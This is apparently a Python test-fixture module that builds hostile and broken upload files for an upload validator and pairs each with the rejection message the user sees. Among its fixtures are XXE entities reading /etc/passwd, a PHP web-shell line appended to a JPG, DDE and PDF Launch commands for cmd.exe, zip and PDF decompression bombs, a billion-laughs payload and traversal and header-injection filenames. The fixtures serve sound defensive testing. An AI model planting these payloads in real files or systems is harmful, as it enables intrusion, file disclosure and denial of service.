"""Hostile and broken files, made byte by byte, each with the sentence that the person must read.

A case is a trick of trust/threats U01-U08, U18: what the name says, what the bytes are.
"""

import io
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

import pikepdf
from PIL import Image

EMPTY = "The file is empty. Check it on your computer, then upload it again."
KIND = "This kind of file is not accepted. Upload a PDF, a JPG or PNG picture, a DOCX or XLSX file."
MACROS = "The file contains macros. Save it as DOCX, XLSX or PDF without macros and upload that."
PASSWORD = "The file is protected by a password. Save it without protection and upload it again."
TWO = "The file carries other data before or after its content. Save it anew and upload it again."
PIXELS = "The picture has more than 50 million pixels. Make it smaller."
SWOLLEN = "The file would unpack to an unusual size and is not accepted. Save it as PDF and upload that."
ACTIVE = "This PDF contains scripts or commands. Print it to a new PDF and upload that one."
HEAVY = "This PDF takes too much time or memory to read. Print it to a new PDF and upload that one."
FETCHES = "The file fetches other content or starts programs when it is opened. Save it as PDF and upload that."
ENTITIES = "The file has XML declarations that Word and Excel never write. Save it as PDF and upload that."
LARGE = "The file is larger than 25 MB. Make it smaller or split it."
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
# The test word that every virus scanner knows, in two halves, so that no scanner takes this file away.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def broken(what: str) -> str:
    return f"The file ({what}) is damaged or incomplete. Open it on your computer, save it anew and upload it."


def says(expected: str, found: str = "") -> str:
    content = f"the content is {found}" if found else "the content is something else"
    return f"The name says {expected}, but {content}. Upload the right file."


def old(expected: str) -> str:
    return f"The name says {expected}, but this is an old Word or Excel file. Save it anew as {expected}."


def inside(name: str) -> str:
    return f"The file carries another file inside ({name}). Take it out, or save it as PDF and upload that."


@dataclass(frozen=True)
class Case:
    trick: str
    name: str
    content: bytes
    sentence: str


# --- whole files to begin with ------------------------------------------------------------------------
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
SHEET = TYPES.replace(b"wordprocessingml.document", b"spreadsheetml.sheet").replace(b"word/document", b"xl/workbook")
LINKS = b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'


def pdf(mark: str = "", **save) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.docinfo["/Title"] = mark
    stream = io.BytesIO()
    document.save(stream, **save)
    return stream.getvalue()


def pdf_with(work) -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page()
    work(document, page)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (200, 150)) -> bytes:
    stream = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(stream, kind)
    return stream.getvalue()


def package(types: bytes = TYPES, how: int = zipfile.ZIP_DEFLATED, **parts: bytes) -> bytes:
    stream = io.BytesIO()
    main = {"xl/workbook.xml": b"<workbook/>"} if types is SHEET else {"word/document.xml": b"<w:document/>"}
    with zipfile.ZipFile(stream, "w", how) as archive:
        archive.writestr("[Content_Types].xml", types)
        for name, content in (main | {k.replace("__", "/"): v for k, v in parts.items()}).items():
            archive.writestr(name, content)
    return stream.getvalue()


def zip_of(**parts: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def png_of(side: int) -> bytes:
    """A header that claims a size, and no pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def action(**keys) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(**keys)


def opens_with(**keys) -> bytes:
    def work(document, page) -> None:
        document.Root.OpenAction = action(**keys)

    return pdf_with(work)


def link_with(**keys) -> bytes:
    def work(document, page) -> None:
        box = pikepdf.Array([0, 0, 9, 9])
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=box, A=action(**keys))
        page.obj.Annots = pikepdf.Array([link])

    return pdf_with(work)


def hand_made_pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF from its objects, with a right table of places."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<</Size %d /Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, len(body))
    return body + table + end


def stream_of(content: bytes, keys: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    return b"<<%s /Filter /FlateDecode /Length %d>>\nstream\n%s\nendstream" % (keys, len(packed), packed)


def pdf_bomb() -> bytes:
    """Objects packed in a stream that unpacks to a gigabyte; whoever reads an object unpacks it."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"2 0  <</Type /Pages /Kids [5 0 R] /Count 1>>")
    for _ in range(1024):
        packed += packer.compress(b" " * (1024 * 1024))
    packed += packer.flush()
    page_tree = b"<</Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d>>\nstream\n%s\nendstream"
    body = b"%PDF-1.7\n"
    first = len(body)
    body += b"1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n"
    third = len(body)
    body += b"3 0 obj\n" + page_tree % (len(packed), packed) + b"\nendobj\n"
    fifth = len(body)
    body += b"5 0 obj\n<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>\nendobj\n"
    place = len(body)
    table = ((0, 0, 65535), (1, first, 0), (2, 3, 0), (1, third, 0), (1, place, 0), (1, fifth, 0))
    rows = b"".join(struct.pack(">BIH", *row) for row in table)
    keys = b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R"
    body += b"4 0 obj\n" + stream_of(rows, keys) + b"\nendobj\n"
    return body + b"startxref\n%d\n%%%%EOF\n" % place


def looping_pdf() -> bytes:
    """A tree of pages that holds itself."""
    return hand_made_pdf(b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R>>")


def overlapping() -> bytes:
    """Three names of the directory for the same packed bytes."""
    content = package(**{"word__media__a.bin": picture(size=(300, 300))})
    start, end = content.find(b"PK\x01\x02"), content.rfind(b"PK\x05\x06")
    again = content[start:end] * 3
    count = struct.unpack("<H", content[end + 10 : end + 12])[0] * 3
    return content[:start] + again + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(again), start, 0)


def locked_part() -> bytes:
    content = bytearray(package())
    content[content.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def entity(word: str) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x {word}>]><w:document>&x;</w:document>'.encode()


def laughs() -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE w [<!ENTITY l0 "ha">{lines}]><w>&l9;</w>'.encode()


# --- the files ----------------------------------------------------------------------------------------
@cache
def cases() -> tuple[Case, ...]:
    return tuple(Case(*row) for row in [*_names(), *_pdfs(), *_pictures(), *_packages()])


def _names() -> Iterator[tuple[str, str, bytes, str]]:
    yield "page under the name of a PDF", "trang.pdf", b"<!doctype html><script>alert(1)</script>", says("PDF")
    yield (
        "drawing with script as PDF",
        "hinh.pdf",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="a()"/>',
        says("PDF"),
    )
    yield "drawing with script as PNG", "hinh.png", b'<svg onload="alert(1)"><foreignObject/></svg>', says("PNG")
    yield "SVG", "hinh.svg", b'<svg onload="alert(1)"/>', KIND
    yield "HTML", "trang.html", b"<html></html>", KIND
    yield "MHTML", "trang.mhtml", b"MIME-Version: 1.0\r\n", KIND
    yield "program", "chay.exe", b"MZ" + bytes(200), KIND
    yield "script with two extensions", "don.pdf.js", b"alert(1)", KIND
    yield "picture of an iPhone", "anh.heic", b"\0\0\0\x18ftypheic" + bytes(60), KIND
    yield "archive", "ho-so.zip", zip_of(**{"a.pdf": pdf()}), KIND
    yield "archive of RAR", "ho-so.rar", b"Rar!\x1a\x07\x00" + bytes(60), KIND
    yield "old Word file", "don.doc", OLD_OFFICE + bytes(600), KIND
    yield "no extension", "tep khong duoi", pdf(), KIND
    yield "name turned round", "\u202efdp.exe", b"MZ" + bytes(200), KIND
    yield "name of folders", "../../../etc/passwd", b"root:x:0:0", KIND
    yield "Word file with macros", "don.docm", package(), MACROS
    yield "Excel file with macros", "bang.xlsm", package(SHEET), MACROS
    yield "binary Excel file", "bang.xlsb", b"PK\x03\x04" + bytes(60), MACROS
    for name in ("don.pdf", "anh.jpg", "anh.png", "don.docx", "bang.xlsx"):
        yield "empty", name, b"", EMPTY
    yield "over 25 MB", "to.pdf", b"%PDF-1.7\n" + bytes(25 * 1024 * 1024), LARGE


def _pdfs() -> Iterator[tuple[str, str, bytes, str]]:
    whole = pdf("cut")
    name = pikepdf.Name
    yield "program as PDF", "chay.pdf", b"MZ" + bytes(200), says("PDF", "EXE")
    yield "ELF program as PDF", "chay-2.pdf", b"\x7fELF\x02\x01\x01" + bytes(200), says("PDF", "ELF")
    yield "Word file as PDF", "don-word.pdf", package(), says("PDF", "DOCX")
    yield "picture as PDF", "anh.pdf", picture("JPEG"), says("PDF", "JPG")
    yield "old Word file as PDF", "cu.pdf", OLD_OFFICE + bytes(600), old("PDF")
    yield "PDF cut at a third", "cat-1.pdf", whole[: len(whole) // 3], broken("PDF")
    yield "PDF cut near its end", "cat-2.pdf", whole[:-12], broken("PDF")
    yield "PDF of noise", "nhieu.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF\n", broken("PDF")
    yield "PDF without a page", "khong-trang.pdf", _no_page(), broken("PDF")
    yield "PDF whose pages loop", "vong.pdf", looping_pdf(), broken("PDF")
    yield "PDF that unpacks to a gigabyte", "bom.pdf", pdf_bomb(), HEAVY
    yield "PDF with a password", "khoa.pdf", pdf(encryption=pikepdf.Encryption(user="s", owner="s")), PASSWORD
    yield (
        "PDF that only its owner may print",
        "khoa-2.pdf",
        pdf(encryption=pikepdf.Encryption(user="", owner="s")),
        PASSWORD,
    )
    yield "PDF that runs a script", "js.pdf", opens_with(S=name.JavaScript, JS=pikepdf.String("app.alert(1)")), ACTIVE
    yield "PDF with a script behind a link", "js-2.pdf", link_with(S=name.JavaScript, JS=pikepdf.String("x")), ACTIVE
    yield "PDF that starts a program", "lenh.pdf", link_with(S=name.Launch, F=pikepdf.String("cmd.exe")), ACTIVE
    yield (
        "PDF that opens a page by itself",
        "mo.pdf",
        opens_with(S=name.URI, URI=pikepdf.String("https://a.vn")),
        ACTIVE,
    )
    yield (
        "PDF with a javascript: link",
        "link.pdf",
        link_with(S=name.URI, URI=pikepdf.String("JavaScript:a()")),
        ACTIVE,
    )
    yield "PDF that sends its form away", "gui.pdf", link_with(S=name.SubmitForm, F=pikepdf.String("http://a")), ACTIVE
    yield "PDF with an XFA form", "xfa.pdf", _xfa(), ACTIVE
    yield "PDF behind a page", "hai-1.pdf", b"<html><!-- " + pdf(), TWO
    yield "PDF and ZIP", "hai-2.pdf", pdf() + package(), TWO
    yield "PDF and program", "hai-3.pdf", pdf() + b"MZ" + bytes(4000), TWO


def _pictures() -> Iterator[tuple[str, str, bytes, str]]:
    png, jpeg = picture("PNG"), picture("JPEG")
    yield "GIF with script as PNG", "gif.png", b"GIF89a/*\x00\x00*/=1;alert(1)//" + bytes(40), says("PNG", "GIF")
    yield "GIF with script as JPG", "gif.jpg", b"GIF89a/*\x00\x00*/=1;alert(1)//" + bytes(40), says("JPG", "GIF")
    yield "PNG as JPG", "anh-png.jpg", png, says("JPG", "PNG")
    yield "JPG as PNG", "anh-jpg.png", jpeg, says("PNG", "JPG")
    yield "PNG of 50,000 by 50,000", "lon.png", png_of(50_000), PIXELS
    yield "PNG of 8,000 by 8,000", "lon-2.png", png_of(8_000), PIXELS
    yield "PNG cut", "cat.png", png[: len(png) // 2], broken("picture")
    yield "PNG with a wrong checksum", "hong.png", png[:60] + bytes([png[60] ^ 255]) + png[61:], broken("picture")
    yield "JPG cut", "cat.jpg", jpeg[: len(jpeg) // 2], broken("picture")
    yield "JPG of a header", "dau.jpg", jpeg[:24], broken("picture")
    yield "PNG and page", "hai-1.png", png + b"<script>alert(1)</script>" * 60, TWO
    yield "PNG and ZIP", "hai-2.png", png + package(), TWO
    yield "JPG and PHP", "hai-1.jpg", jpeg + b"<?php system($_GET[0]); ?>", TWO
    yield "JPG and ZIP", "hai-2.jpg", jpeg + zip_of(**{"a.exe": b"MZ"}), TWO


def _packages() -> Iterator[tuple[str, str, bytes, str]]:
    whole = package(**{"word__media__a.bin": picture()})
    sheet = package(SHEET, **{"xl__media__a.bin": picture()})
    hidden = OLD_OFFICE + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(90)
    outside = b' Target="http://a.example/x" TargetMode="External"/></Relationships>'
    yield "PDF as DOCX", "don-pdf.docx", pdf(), says("DOCX", "PDF")
    yield "sheet as DOCX", "bang.docx", package(SHEET), says("DOCX", "XLSX")
    yield "text as XLSX", "don.xlsx", package(), says("XLSX", "DOCX")
    yield "plain ZIP as DOCX", "zip.docx", zip_of(**{"a.txt": b"a"}), says("DOCX", "ZIP")
    yield "old Word file as DOCX", "cu.docx", OLD_OFFICE + bytes(600), old("DOCX")
    yield "old Excel file as XLSX", "cu.xlsx", OLD_OFFICE + bytes(600), old("XLSX")
    yield "DOCX with a password", "khoa.docx", hidden, PASSWORD
    yield "XLSX with a password", "khoa.xlsx", hidden, PASSWORD
    yield "ZIP with a locked part as DOCX", "khoa-zip.docx", locked_part(), PASSWORD
    yield "DOCX with macros under a plain name", "macro.docx", package(**{"word__vbaProject.bin": b"m"}), MACROS
    kinds = TYPES.replace(b"</Types>", b'<Override ContentType="x.macroEnabled.main+xml"/></Types>')
    yield "DOCM renamed", "macro-2.docx", package(kinds), MACROS
    yield "XLSX with a macro sheet inside", "macro.xlsx", package(SHEET, **{"xl__embeddings__a.xlsm": b"m"}), MACROS
    yield "DOCX cut", "cat.docx", whole[: len(whole) // 2], broken("DOCX")
    yield "XLSX cut", "cat.xlsx", sheet[:-30], broken("XLSX")
    stored = package(how=zipfile.ZIP_STORED, **{"word__a.bin": b"unmistakable words"})
    yield "DOCX with a wrong checksum", "hong.docx", stored.replace(b"unmistakable", b"unmistakablE"), broken("DOCX")
    yield "bomb of zeros", "bom.docx", package(**{"word__a.xml": bytes(60 * 1024 * 1024)}), SWOLLEN
    yield "bomb of zeros as XLSX", "bom.xlsx", package(SHEET, **{"xl__a.xml": bytes(60 * 1024 * 1024)}), SWOLLEN
    yield "overlapping parts", "chong.docx", overlapping(), SWOLLEN
    yield "5,001 parts", "nhieu.xlsx", package(SHEET, **{f"p{n}": b"" for n in range(5_001)}), SWOLLEN
    bomb = zip_of(**{"42.zip": zip_of(**{"0.dll": bytes(9 * 1024 * 1024)})})
    yield "ZIP in ZIP in DOCX", "long.docx", package(**{"word__media__42.bin": bomb}), inside("42.bin")
    yield "program in DOCX", "exe.docx", package(**{"word__media__a.bin": b"MZ" + bytes(90)}), inside("a.bin")
    yield "script in XLSX", "js.xlsx", package(SHEET, **{"xl__a.js": b"alert(1)"}), inside("a.js")
    local = entity('SYSTEM "file:///etc/passwd"')
    yield "XML that reads a file (DOCX)", "xxe.docx", package(**{"word__a.xml": local}), ENTITIES
    yield "XML that reads a file (XLSX)", "xxe.xlsx", package(SHEET, **{"xl__a.xml": local}), ENTITIES
    yield (
        "XML that reads a file in UTF-16",
        "xxe-16.docx",
        package(**{"word__a.xml": local.decode().encode("utf-16")}),
        ENTITIES,
    )
    yield "XML of a billion laughs", "cuoi.docx", package(**{"word__a.xml": laughs()}), ENTITIES
    template = LINKS % b"attachedTemplate" + outside
    yield "template from elsewhere", "mau.docx", package(**{"word___rels__s.xml.rels": template}), FETCHES
    yield (
        "DDE command",
        "dde.docx",
        package(**{"word__a.xml": b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"}),
        FETCHES,
    )
    yield "ActiveX control", "ax.docx", package(**{"word__activeX__a.bin": b"x"}), FETCHES
    yield "DOCX behind a script", "sh.docx", b"#!/bin/sh\n" + package(), TWO


def _no_page() -> bytes:
    stream = io.BytesIO()
    pikepdf.new().save(stream)
    return stream.getvalue()


def _xfa() -> bytes:
    def work(document, page) -> None:
        form = pikepdf.Stream(document, b"<template><script>app.alert(1)</script></template>")
        document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_indirect(form))

    return pdf_with(work)


# --- what only a scanner finds ------------------------------------------------------------------------
def infected() -> tuple[tuple[str, bytes], ...]:
    """Whole files that carry the scanners' test word."""

    def work(document, page) -> None:
        document.Root.Note = pikepdf.Stream(document, EICAR)

    return (
        ("eicar.pdf", pdf_with(work)),
        ("eicar.docx", package(**{"word__media__a.bin": EICAR})),
        ("eicar.xlsx", package(SHEET, **{"xl__embeddings__a.xlsx": package(SHEET, **{"xl__b.bin": EICAR})})),
    )


# --- names (U06): what comes, what is shown -----------------------------------------------------------
NAMES = (
    ("../../x.pdf", "x.pdf"),
    ("C:\\Hồ sơ\\Đơn.pdf", "Đơn.pdf"),
    ("CON.pdf", "_CON.pdf"),
    ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
    ("a\x00b.pdf", "a b.pdf"),
    ('"><script>.pdf', "___script_.pdf"),
    ("\u202efdp.pdf", "fdp.pdf"),
    (unicodedata.normalize("NFD", "Báo cáo.pdf"), "Báo cáo.pdf"),
    ("á" * 300 + ".pdf", "á" * 136 + ".pdf"),
    ("...pdf", "file.pdf"),
)
